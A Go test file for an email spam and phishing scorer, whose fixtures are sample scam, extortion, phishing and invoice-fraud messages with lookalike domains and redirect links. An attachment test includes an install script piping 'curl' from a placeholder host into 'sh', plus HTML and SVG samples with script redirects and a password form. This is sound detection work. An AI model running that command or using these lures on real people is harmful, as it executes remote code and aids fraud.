package scoring

import (
	"strings"
	"testing"
)

// Each signal with messages that should trip it and messages that should not.
func TestSignals(t *testing.T) {
	s := newTestScorer(t)
	tests := []struct {
		signal string
		trip   [][]byte
		quiet  [][]byte
		detail string // a substring of the detail for trip[0]
	}{
		{
			signal: "lexicon_investment",
			trip:   [][]byte{textMail("Opportunity", "A unique investment opportunity with guaranteed returns and passive income.")},
			quiet:  [][]byte{textMail("Minutes", "The board discussed the budget and the new roof for the hall.")},
			detail: `"investment opportunity"`,
		},
		{
			signal: "lexicon_crypto",
			trip:   [][]byte{textMail("Hi", "Send bitcoin to this wallet address and get ethereum back.")},
			quiet:  [][]byte{textMail("Crypto library", "The crypto library now supports ed25519 keys.")},
		},
		{
			signal: "lexicon_lottery",
			trip:   [][]byte{textMail("Winner", "Congratulations you have won the lottery. Claim your prize with the barrister.")},
			quiet:  [][]byte{textMail("Report", "Here is the quarterly report you asked for.")},
		},
		{
			signal: "lexicon_pharma",
			trip:   [][]byte{textMail("Meds", "Buy viagra and cialis without prescription from our online pharmacy.")},
			quiet:  [][]byte{textMail("Lunch", "Shall we meet for lunch on Friday?")},
		},
		{
			signal: "lexicon_adult",
			trip:   [][]byte{textMail("Hot", "Hot girls and xxx porn, live girls waiting.")},
			quiet:  [][]byte{textMail("Zoo", "The zoo opens a new reptile house.")},
		},
		{
			signal: "lexicon_phishing",
			trip:   [][]byte{textMail("Alert", "Unusual activity: verify your account or your account will be closed.")},
			quiet:  [][]byte{textMail("Welcome", "Welcome to the team, your desk is on the second floor.")},
		},
		{
			signal: "lexicon_bec",
			trip:   [][]byte{textMail("Quick favour", "Are you available? I need a favour: buy six gift cards for a client and keep this between us.")},
			quiet:  [][]byte{textMail("Meeting", "I'm stuck in traffic, can we move the meeting to three?")},
			detail: `"gift cards"`,
		},
		{
			signal: "payment_diversion",
			trip: [][]byte{
				textMail("RE: Outstanding invoices", "Our bank details changed this month after the audit. Please pay the two invoices to the new account today."),
				textMail("Direct deposit", "I changed banks recently; please update my direct deposit before the next payroll."),
				textMail("Rechnung 2291", "Bitte beachten Sie unsere neue Bankverbindung für die Zahlung der Rechnung."),
				textMail("Fattura 118", "Vi informiamo che le coordinate bancarie sono cambiate: effettuate il bonifico sul nuovo conto."),
			},
			quiet: [][]byte{
				// No change, a warning, a card update, a new bank without a payment.
				textMail("Invoice 4471", "Please pay invoice 4471 today; there is no change to their bank details, it is approved."),
				textMail("Security", "We will never ask you to change your bank details by email. Your invoice is attached."),
				textMail("Card updated", "Your payment details were updated. The next invoice will be charged to the new card."),
				textMail("Branch", "Our new bank branch opens on Monday with longer hours."),
				textMail("Fraud warning", "Fraudsters send emails claiming a supplier's bank details have changed. Call before you pay an invoice."),
			},
			detail: `"bank details" near "changed"`,
		},
		{
			signal: "qr_code_lure",
			trip:   [][]byte{htmlMail("MFA", `<p>Your authenticator registration expires in 48 hours. Scan the QR code below with your phone to keep access.</p><img src="cid:qr" width="200" height="200">`)},
			quiet: [][]byte{
				htmlMail("Your tickets", `<p>Show this ticket at the door; staff will scan the QR code.</p><img src="cid:qr" width="200" height="200">`),
				htmlMail("Rechnung", `<p>Scannen Sie den QR-Code mit Ihrer Banking-App, um die Rechnung zu bezahlen.</p><img src="cid:qr" width="200" height="200">`),
				textMail("MFA", "Your authenticator registration expires soon. Scan the QR code on the IT portal."),
			},
			detail: "expires",
		},
		{
			signal: "open_redirect",
			trip: [][]byte{
				htmlMail("Invoice", `<a href="https://www.town-utility.example/ext/redirect.php?target=https%3A%2F%2Fpay.invoices-view.example%2Fv%2F1">Review and pay</a>`),
				htmlMail("Doc", `<a href="http://news.example.net/out?u=http://login.evil.example/">Open</a>`),
			},
			quiet: [][]byte{
				// An e-mail service provider's click tracking, the sender's
				// own redirect, a link back to the same site.
				htmlMail("News", `<a href="https://us5.list-manage.com/track/click?u=1&url=https%3A%2F%2Fshop.example%2F">Shop</a>`),
				htmlMail("News", `<a href="https://click.sender.example/r?url=https%3A%2F%2Fpartner.example%2F">Partner</a>`),
				htmlMail("Search", `<a href="https://www.site.example/search?next=https://www.site.example/results">Results</a>`),
				htmlMail("News", `<a href="https://t.small-esp.example/c?u=https%3A%2F%2Farticle.example%2F">Read</a>`, "List-Unsubscribe: <mailto:u@sender.example>"),
				htmlMail("News", `<a href="https://www.sender.com/c?u=https%3A%2F%2Farticle.example%2F">Read</a>`),
			},
			detail: "www.town-utility.example to pay.invoices-view.example",
		},
		{
			signal: "extortion",
			trip: [][]byte{textMail("Your account", "I recorded you through your webcam while you visited adult websites. "+
				"Pay 1200 USD in bitcoin to this bitcoin address: 1BoatSLRHtKNngkdXEeobR76b53LETtpyT or all your contacts get the video of you.")},
			quiet: [][]byte{
				textMail("Webcam", "The webcam in meeting room 2 is broken; your device can use the spare one."),
				textMail("Wallet", "We accept bitcoin at the shop now, see the sign at the till."),
			},
			detail: "wallet address",
		},
		{
			signal: "callback_scam",
			trip: [][]byte{textMail("Renewal", "Your subscription has been renewed and you have been charged $399.99. "+
				"If you did not authorize this, call our billing department at +1 (888) 555-0142 to cancel and claim a refund.")},
			quiet: [][]byte{
				textMail("Renewal", "Your subscription has been renewed and you have been charged $9.99. Manage it in your account settings."),
				textMail("Call me", "Call us on 020 7946 0958 if the parcel does not arrive; to cancel, reply to this mail."),
			},
			detail: "888",
		},
		{
			signal: "urgency",
			trip:   [][]byte{textMail("Hurry", "Act now, this offer expires today only. Last chance!")},
			quiet:  [][]byte{textMail("Notes", "Notes from the meeting are attached.")},
		},
		{
			signal: "money",
			trip:   [][]byte{textMail("Cash", "Earn $5,000 per week in cash. Our income plan pays $300 a day, profit guaranteed.")},
			quiet:  [][]byte{textMail("Invoice", "Your invoice for October is attached. Amount due: 145 EUR.")},
			detail: `"$5,000"`,
		},
		{
			signal: "shouting",
			trip: [][]byte{
				textMail("BUY NOW AND SAVE BIG TODAY", "hello"),
				textMail("Hi", "This is great!!! Really!!!"),
			},
			quiet:  [][]byte{textMail("Meeting at 10", "See you at the NASA building at 10.")},
			detail: "subject in capitals",
		},
		{
			signal: "obfuscation",
			trip: [][]byte{
				textMail("Hi", "Fr\u200bee m\u200beds for you"),
				textMail("Hi", "Log in to your p\u0430ypal account"),
				textMail("Hi", "Cheap v1agra here"),
			},
			quiet:  [][]byte{textMail("Hi", "Москва is a city; Paris is another. Version 1.2 is out, call 555-1234.")},
			detail: "zero-width",
		},
		{
			signal: "link_text_ratio",
			trip:   [][]byte{htmlMail("Links", `<a href="https://a.example/1">a</a> <a href="https://a.example/2">b</a> <a href="https://a.example/3">c</a> <a href="https://a.example/4">d</a>`)},
			quiet:  [][]byte{htmlMail("Post", `<p>`+strings.Repeat("A long paragraph of ordinary words. ", 20)+`</p><a href="https://a.example/">read more</a>`)},
		},
		{
			signal: "url_shortener",
			trip:   [][]byte{textMail("Look", "See https://bit.ly/3abcDEF now")},
			quiet:  [][]byte{textMail("Look", "See https://example.com/page now")},
			detail: "bit.ly",
		},
		{
			signal: "ip_link",
			trip: [][]byte{
				textMail("Look", "Log in at http://185.23.4.9/login"),
				htmlMail("Look", `<a href="http://3106302921/x">site</a>`),
			},
			quiet:  [][]byte{textMail("Look", "Version 185.23.4.9 of the tool is out; see https://tool.example/")},
			detail: "185.23.4.9",
		},
		{
			signal: "lookalike_domain",
			trip: [][]byte{
				textMail("Login", "Go to https://www.paypa1.com/login"),
				textMail("Login", "Go to https://paypal.com.account-check.ru/login"),
				textMail("Login", "Go to https://amazon-billing.example/login"),
				textMail("Login", "Go to https://www.micros0ft.com/"),
			},
			quiet: [][]byte{
				textMail("Login", "Go to https://www.paypal.com/login or https://www.amazon.co.uk/ or https://groups.example.com/"),
				textMail("Login", "Go to https://outlook.office.example/ and https://news.apple.com/"),
			},
			detail: "paypa1",
		},
		{
			signal: "link_text_mismatch",
			trip:   [][]byte{htmlMail("Login", `<a href="http://185.23.4.9/x">www.paypal.com</a>`)},
			quiet: [][]byte{
				htmlMail("Login", `<a href="https://www.paypal.com/signin">www.paypal.com</a>`),
				htmlMail("Login", `<a href="https://shop.example/">Our shop</a>`),
			},
			detail: "link text says www.paypal.com, link goes to 185.23.4.9",
		},
		{
			signal: "many_link_domains",
			trip: [][]byte{textMail("Links", "https://a1.example/ https://a2.example/ https://a3.example/ https://a4.example/ "+
				"https://a5.example/ https://a6.example/ https://a7.example/")},
			quiet: [][]byte{textMail("Links", "https://a.example/1 https://a.example/2 https://www.a.example/3")},
		},
		{
			signal: "dangerous_attachment",
			trip:   [][]byte{readTestdata(t, "attachment.eml")},
			quiet:  [][]byte{readTestdata(t, "invoice.eml")},
			detail: "invoice_2041.pdf.exe",
		},
		{
			signal: "hidden_text",
			trip: [][]byte{htmlMail("Hi", `<p>Buy now</p><div style="display: none">lots of innocent words here to fool the filter, meeting schedule report</div>`),
				htmlMail("Hi", `<p>Buy now</p><span style="font-size:0px">lots of innocent words here to fool the filter, meeting schedule report</span>`)},
			quiet:  [][]byte{htmlMail("Hi", `<style>p{color:red} lots of css text in here that nobody sees anyway really</style><p>Hello there</p>`)},
			detail: "hidden from the reader",
		},
		{
			signal: "html_only",
			trip:   [][]byte{htmlMail("Hi", "<p>Hello</p>")},
			quiet:  [][]byte{readTestdata(t, "invoice.eml"), textMail("Hi", "Hello")},
		},
		{
			signal: "image_only",
			trip:   [][]byte{readTestdata(t, "image_only.eml")},
			quiet:  [][]byte{readTestdata(t, "newsletter.eml"), htmlMail("Hi", `<img src="https://t.example/p.gif" width="1" height="1">`+strings.Repeat("word ", 40))},
		},
		{
			signal: "bulk_no_unsubscribe",
			trip: [][]byte{
				textMail("News", "Our news of the week.", "Precedence: bulk"),
				textMail("Offer", "Great stuff. To be removed from this list reply REMOVE."),
			},
			quiet: [][]byte{
				readTestdata(t, "newsletter.eml"),
				textMail("News", "Our news of the week.", "Precedence: bulk", "List-Unsubscribe: <mailto:u@x.example>"),
			},
			detail: "no List-Unsubscribe",
		},
		{
			signal: "from_impersonation",
			trip: [][]byte{
				rawMail([]string{`From: "PayPal Service" <service@mailer.example>`, "Subject: hi"}, "hello"),
				rawMail([]string{`From: "billing@bank.com" <x@other.example>`, "Subject: hi"}, "hello"),
			},
			quiet: [][]byte{
				rawMail([]string{`From: "PayPal" <service@paypal.com>`, "Subject: hi"}, "hello"),
				rawMail([]string{`From: "Craig R.Hughes" <craig@deersoft.example>`, "Subject: hi"}, "hello"),
			},
			detail: "names paypal",
		},
		{
			signal: "reply_to_divert",
			trip:   [][]byte{rawMail([]string{"From: CEO <ceo@company.example>", "Reply-To: ceo.private@gmail.com", "Subject: wire"}, "Please wire the money today.")},
			quiet: [][]byte{
				rawMail([]string{"From: CEO <ceo@company.example>", "Reply-To: assistant@company.example", "Subject: x"}, "hello"),
				rawMail([]string{"From: a@x.example", "Reply-To: list@lists.example", "List-Id: <list.lists.example>", "Subject: x"}, "hello"),
			},
			detail: "gmail.com",
		},
		{
			signal: "random_tag",
			trip: [][]byte{
				textMail("best home mortgage rate             MOFJN", "hello"),
				textMail("Re: You want fun? 7099ocYT9-261UccU3485gGCz0", "hello"),
				textMail("please see thanks aFTkNqJnKdMfZNDBHkLgjixDM2Z", "hello"),
			},
			quiet: [][]byte{
				textMail("OpenCourseWare and SchoolHouseRocks", "hello"),
				textMail("Invoice INV-2041 for order 12345", "hello"),
			},
			detail: "MOFJN",
		},
		{
			signal: "malformed",
			trip:   [][]byte{readTestdata(t, "broken.eml")},
			quiet:  [][]byte{readTestdata(t, "invoice.eml")},
		},
	}
	for _, tc := range tests {
		t.Run(tc.signal, func(t *testing.T) {
			for i, raw := range tc.trip {
				got := signalsOf(t, s, raw)
				g, ok := got[tc.signal]
				if !ok {
					t.Errorf("trip[%d]: %s did not fire; fired: %v", i, tc.signal, names(got))
					continue
				}
				if g.Weight <= 0 || g.Detail == "" {
					t.Errorf("trip[%d]: %s: weight %v, detail %q", i, tc.signal, g.Weight, g.Detail)
				}
				if i == 0 && tc.detail != "" && !strings.Contains(g.Detail, tc.detail) {
					t.Errorf("trip[0]: %s detail %q lacks %q", tc.signal, g.Detail, tc.detail)
				}
			}
			for i, raw := range tc.quiet {
				if g, ok := signalsOf(t, s, raw)[tc.signal]; ok {
					t.Errorf("quiet[%d]: %s fired: %s", i, tc.signal, g.Detail)
				}
			}
		})
	}
}

func TestResultInvariants(t *testing.T) {
	s := newTestScorer(t)
	for _, name := range []string{"phish.eml", "crypto.eml", "invoice.eml", "broken.eml", "attachment.eml"} {
		r := s.Score(readTestdata(t, name))
		var sum float64
		for i, g := range r.Signals {
			if g.Weight == 0 {
				t.Errorf("%s: zero-weight signal %s listed", name, g.Name)
			}
			if i > 0 && r.Signals[i-1].Weight < g.Weight {
				t.Errorf("%s: signals not sorted by weight", name)
			}
			sum += g.Weight
		}
		if d := sum - r.Score; d > 0.01 || d < -0.01 {
			t.Errorf("%s: score %.3f is not the sum of its signals %.3f", name, r.Score, sum)
		}
		if r.Score != s.Score(readTestdata(t, name)).Score {
			t.Errorf("%s: not deterministic", name)
		}
	}
}

func TestVerdictsAndReasons(t *testing.T) {
	s := newTestScorer(t)
	for name, want := range map[string]Verdict{
		"phish.eml": Reject, "crypto.eml": Reject, "invoice.eml": Pass, "newsletter.eml": Pass, "attachment.eml": Hold,
		"reset.eml": Pass,
		// An honest HTML order confirmation: held by the classifier's word
		// statistics alone until training added synthetic business mail.
		"order.eml": Pass,
	} {
		r := s.Score(readTestdata(t, name))
		if r.Verdict != want {
			t.Errorf("%s: verdict %s (score %.2f), want %s; signals %v", name, r.Verdict, r.Score, want, r.Signals)
		}
		reason := r.MainReason()
		if reason == "" || strings.ContainsAny(reason, "0123456789") {
			t.Errorf("%s: MainReason %q: want short text without numbers", name, reason)
		}
	}
	r := s.Score(readTestdata(t, "attachment.eml"))
	if got := r.MainReason(); !strings.Contains(got, "attachment") {
		t.Errorf("attachment MainReason = %q", got)
	}
	if (Result{}).MainReason() == "" {
		t.Error("empty MainReason for an empty result")
	}
}

func TestThresholdOptions(t *testing.T) {
	if _, err := New(Options{HoldThreshold: 10, RejectThreshold: 5}); err == nil {
		t.Error("reject below hold accepted")
	}
	s, err := New(Options{HoldThreshold: 100, RejectThreshold: 200})
	if err != nil {
		t.Fatal(err)
	}
	if v := s.Score(readTestdata(t, "phish.eml")).Verdict; v != Pass {
		t.Errorf("with high thresholds: %s", v)
	}
}

// A "#!" script is dangerous only under a name the recipient's system runs
// (.sh, .bat, .ps1...); under any other name a mail reader shows it as text,
// so it weighs less than a hold. Programs weigh 8 whatever their name.
func TestScriptAttachmentWeight(t *testing.T) {
	withAttachment := func(name, content string) []byte {
		return rawMail([]string{"From: Kevin <k@lab.example>", "To: list@lab.example", "Subject: Re: sorting",
			"MIME-Version: 1.0", `Content-Type: multipart/mixed; boundary="b"`},
			"--b\nContent-Type: text/plain\n\nHere is the script I use to sort my folders.\n"+
				"--b\nContent-Type: application/octet-stream\nContent-Disposition: attachment; filename=\""+name+"\"\n\n"+
				content+"\n--b--\n")
	}
	s := newTestScorer(t)
	for _, tc := range []struct {
		name, content string
		want          float64
	}{
		{"swasort", "#!/bin/tcsh -f\nsort -u folders\n", unixScriptWeight},
		{"backup.txt", "#!/bin/sh\ntar czf /tmp/x.tgz ~\n", unixScriptWeight},
		{"install.sh", "#!/bin/sh\ncurl -s http://x.example | sh\n", 8},
		{"run.bat", "#!/bin/sh\necho hi\n", 8},
		{"tool", "\x7fELF\x02\x01\x01", 8},
		{"notes.txt", "just some notes\n", 0},
		{"statement.html", "<html><p>Your statement for March.</p></html>", 3},
		{"Invoice_0442.pdf.html", "<html><p>Invoice 0442</p></html>", 5},
		{"logo.SVG", "<svg xmlns='http://www.w3.org/2000/svg'></svg>", 3},
		// Web pages and SVG images that act on their own: a sign-in form,
		// script, a redirect. Whatever their name.
		{"statement.html", "<html><FORM action=x><input type=password></form></html>", 5},
		{"logo.svg", "<svg xmlns='http://www.w3.org/2000/svg'><script>location.href='x'</script></svg>", 5},
		{"badge.svg", "<svg xmlns='http://www.w3.org/2000/svg' onload=\"go()\"></svg>", 5},
		{"page.htm", "<html><meta http-equiv=\"Refresh\" content=\"0;url=https://x.example\"></html>", 5},
	} {
		r := s.Score(withAttachment(tc.name, tc.content))
		var got float64
		for _, g := range r.Signals {
			if g.Name == "dangerous_attachment" {
				got = g.Weight
			}
		}
		if got != tc.want {
			t.Errorf("%s: dangerous_attachment %v, want %v (signals %+v)", tc.name, got, tc.want, r.Signals)
		}
	}
}

// TestFraudFloor: deception and fraud signals adding up to fraudFloor keep
// their weight whatever the classifier says; below it the classifier may
// still lower the score.
func TestFraudFloor(t *testing.T) {
	s := newTestScorer(t)
	bayes := func(sigs []Signal) float64 {
		for _, g := range sigs {
			if g.Name == "bayes" {
				return g.Weight
			}
		}
		return 0
	}
	strong := []Signal{{Name: "link_text_mismatch", Weight: 3.5}, {Name: "from_impersonation", Weight: 3}}
	if got, sigs := s.combine(strong, -5, 300, nil, nil); got != 6.5 || bayes(sigs) != 0 {
		t.Errorf("impersonation + mismatch with ham-like words: score %v (bayes %v), want 6.5 and no bayes", got, bayes(sigs))
	}
	if got, _ := s.combine(strong, 2, 300, nil, nil); got != 10.5 {
		t.Errorf("spam-like words still count: score %v, want 10.5", got)
	}
	weak := []Signal{{Name: "from_impersonation", Weight: 2.5}, {Name: "link_text_mismatch", Weight: 1}, {Name: "money", Weight: 2}}
	if got, sigs := s.combine(weak, -5, 300, nil, nil); bayes(sigs) >= 0 || got >= 5.5 {
		t.Errorf("fraud 3.5 < %v: the classifier may lower it; score %v, bayes %v", float64(fraudFloor), got, bayes(sigs))
	}
}

// The sender's domain imitating another party of the conversation: a
// recipient's domain one letter away, a domain named in the text, or the
// name the message signs with spelt with a look-alike letter.
func TestCousinDomain(t *testing.T) {
	s := newTestScorer(t)
	mail := func(from, to, body string) []byte {
		return rawMail([]string{"From: " + from, "To: " + to, "Subject: RE: invoices", "Content-Type: text/plain"}, body)
	}
	for _, tc := range []struct {
		raw    []byte
		detail string // "" when lookalike_domain should stay quiet
	}{
		{mail("Helen <h@northgate-packaglng.co>", "j@buyer.example", "Kind regards,\nHelen Price\nNorthgate Packaging Ltd"), `spells "Packaging"`},
		{mail("Helen <h@northgatepackaglng.com>", "j@buyer.example", "Regards, Helen\nNorthgate Packaging"), `"Northgate Packaging"`},
		{mail("CFO <cfo@examp1e-corp.com>", "ap@example-corp.com", "Please process the payment today."), "imitates example-corp.com"},
		{mail("CFO <cfo@exarnple.com>", "ap@example.com", "Please process the payment today."), "imitates example.com"},
		{mail("Jo <jo@acrne.com>", "x@buyer.example", "> From: Sam <sam@acme.com>\n> Thanks"), "imitates acme.com"},
		// Honest: the same name under other top-level domains or with a
		// hyphen, a free-mail sender, a name spelt as the domain, and
		// words merely alike ("clear", "modern").
		{mail("Ann <ann@acme-tools.com>", "b@acmetools.co.uk", "Thanks, Ann\nAcme Tools"), ""},
		{mail("Ann <ann@northgate.de>", "b@northgate.com", "Danke"), ""},
		{mail("Ann <ann.northgate@gmail.com>", "b@gmaii.com", "hi"), ""},
		{mail("Ann <ann@modern-interiors.com>", "b@buyer.example", "The Modem arrived. Modern Interiors"), ""},
		{mail("Ann <ann@brightline.com>", "b@buyer.example", "Regards, Ann\nBrightline Ltd"), ""},
	} {
		g, ok := signalsOf(t, s, tc.raw)["lookalike_domain"]
		switch {
		case tc.detail == "" && ok:
			t.Errorf("%s: lookalike_domain fired: %s", tc.raw[:40], g.Detail)
		case tc.detail != "" && !ok:
			t.Errorf("%s: lookalike_domain did not fire", tc.raw[:40])
		case ok && !strings.Contains(g.Detail, tc.detail):
			t.Errorf("detail %q lacks %q", g.Detail, tc.detail)
		}
	}
}

// A link whose text names a government site and goes elsewhere weighs as
// much as one naming a brand; through a government's mailing service it
// stays weak.
func TestLinkMismatchOfficial(t *testing.T) {
	s := newTestScorer(t)
	for _, tc := range []struct {
		href, text string
		want       float64
	}{
		{"https://edevlet-iade-basvuru.example/giris", "www.turkiye.gov.tr", 3.5},
		{"https://impots-remboursement.example/", "www.impots.gouv.fr", 3.5},
		{"https://refunds.example/", "www.irs.gov", 3.5},
		{"https://links.govdelivery.com/track?id=1", "www.irs.gov", 1},
		{"https://click.shop.example/t/1", "www.partner.com", 1},
	} {
		raw := htmlMail("Notice", `<p>Details: <a href="`+tc.href+`">`+tc.text+`</a></p>`)
		if got := signalsOf(t, s, raw)["link_text_mismatch"].Weight; got != tc.want {
			t.Errorf("%s → %s: link_text_mismatch %v, want %v", tc.text, tc.href, got, tc.want)
		}
	}
}

// The confusable folding that cousinDomain compares with.
func TestConfusable(t *testing.T) {
	for _, tc := range []struct {
		a, b string
		want bool
	}{
		{"packaglng", "Packaging", true}, {"paypa1", "paypal", true}, {"rnicrosoft", "microsoft", true},
		{"vvells", "wells", true}, {"g00gle", "google", true}, {"northgate", "Northgate", false},
		{"northgate", "northgates", false}, {"clear", "dear", false}, {"", "", false},
	} {
		if got := confusable(tc.a, tc.b); got != tc.want {
			t.Errorf("confusable(%q, %q) = %v, want %v", tc.a, tc.b, got, tc.want)
		}
	}
}
